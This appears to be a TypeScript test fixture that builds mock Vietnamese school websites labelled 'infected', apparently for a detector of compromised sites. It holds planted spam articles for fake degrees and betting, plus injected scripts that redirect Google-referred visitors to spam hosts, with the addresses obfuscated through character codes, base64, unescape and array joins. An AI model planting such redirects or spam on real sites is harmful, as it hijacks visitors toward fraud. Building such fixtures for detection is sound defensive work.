import { atEnd, type CorpusSite, serve } from '../corpus-site.ts';
import { schoolPages } from '../school-pages.ts';

const SECTIONS = ['Tuyên truyền', 'Phòng, chống ma tuý', 'Công an học đường', 'Văn bản'];
/** A menu whose last words are those of a campaign, as schools have it, and no sign before what follows. */
const MENU = `<ul class="muc">${SECTIONS.map((name) => `<li><a href="/tin-tuc">${name}</a></li>`).join('')}</ul><h2 class="an">Đường dẫn trang</h2><ol><li><a href="/">Trang chủ</a></li></ol>`;

/** Headlines of other articles, as they stand in a column beside the content. */
const HEADLINES = [
  'Công an phường nói chuyện về tác hại của ma tuý',
  'Cảnh báo thủ đoạn lừa đảo qua mạng',
  'Phòng ngừa đuối nước cho học sinh',
];
const COLUMN = `<ul>${HEADLINES.map((name) => `<li><a href="/tin-tuc">${name}</a></li>`).join('')}</ul>`;

function behindMenu(
  id: string,
  about: string,
  school: string,
  [title, text]: readonly [string, string],
  menu = MENU,
): CorpusSite {
  const pages = Object.entries(schoolPages('hand-made', school, [{ slug: id, title, paragraphs: [text] }]));
  const withMenu = pages.map(
    ([path, html]) => [path, html.replace('<article>', `${menu}<article>`)] as const,
  );
  return { id, label: 'infected', about, respond: serve(Object.fromEntries(withMenu)) };
}

const codes = (text: string): string => Array.from(text, (one) => one.charCodeAt(0)).join(',');
const base64 = (text: string): string => Buffer.from(text).toString('base64');

function withCode(id: string, about: string, school: string, code: string): CorpusSite {
  const pages = schoolPages('wordpress', school, [], (html) => atEnd(html, `<script>${code}</script>`));
  return { id, label: 'infected', about, respond: serve(pages) };
}

/** Planted articles that stand right behind a menu with words of a campaign, and redirects put together from parts. */
export const sites: readonly CorpusSite[] = [
  behindMenu(
    'degrees-behind-menu-of-campaigns',
    'an article that sells degrees stands right behind a menu with sections of campaigns',
    'Trường THCS Vạn Sơn Mới',
    [
      'Làm bằng đại học giá rẻ, bao soi công chứng',
      'Nhận làm bằng cấp 3, bằng đại học phôi thật, hồ sơ gốc. Liên hệ Zalo.',
    ],
  ),
  behindMenu(
    'betting-behind-menu-of-campaigns',
    'an article for a betting house stands right behind a menu with sections of campaigns',
    'Trường THCS Ngọc Hải Mới',
    ['Nhà cái uy tín nhất, nạp đầu tặng 100%', 'Cá cược bóng đá, nổ hũ, tài xỉu, xóc đĩa. Đăng ký nhận 88K.'],
  ),
  behindMenu(
    'betting-behind-column-of-warnings',
    'an article for a betting house stands right behind a column of headlines that warn of other things',
    'Trường THCS Đồ Sơn Mới',
    [
      'Nổ hũ đổi thưởng, tài xỉu online',
      'Game bài đổi thưởng, bắn cá, xóc đĩa, rút tiền trong 5 phút. Tải ứng dụng và chơi ngay.',
    ],
    COLUMN,
  ),
  withCode(
    'address-half-in-codes',
    'half of the address of a redirect is written as character codes, half plainly',
    'Trường THCS Vạn Hương Mới',
    `(function(){var u=navigator.userAgent;if(/Android|iPhone/i.test(u)&&document.referrer.indexOf("google")>-1){window.location.href=String.fromCharCode(${codes('https://')})+"m-choivui.fun/go"}})();`,
  ),
  withCode(
    'address-in-two-names',
    'the scheme and the host of a redirect have a name each',
    'Trường THCS Bàng La Mới',
    `var h=atob("${base64('quatang-tet.fun')}"),p="https://";if(/google/i.test(document.referrer)){window.location.href=p+h+"/x"}`,
  ),
  withCode(
    'address-in-template',
    'the host of a redirect stands in a template',
    'Trường THCS Hợp Đức Mới',
    'const nha=unescape("%6d%2d%63%68%6f%69%2e%66%75%6e");if(/google/i.test(document.referrer)){location.replace(`https://${nha}/go`)}',
  ),
  withCode(
    'address-from-list-with-slashes',
    'the address of a redirect is joined from a list by slashes',
    'Trường THCS Minh Đức Mới',
    'var k=["https:","","m-choivui.fun","go"].join("/");if(/google/i.test(document.referrer)){window.location=k}',
  ),
];
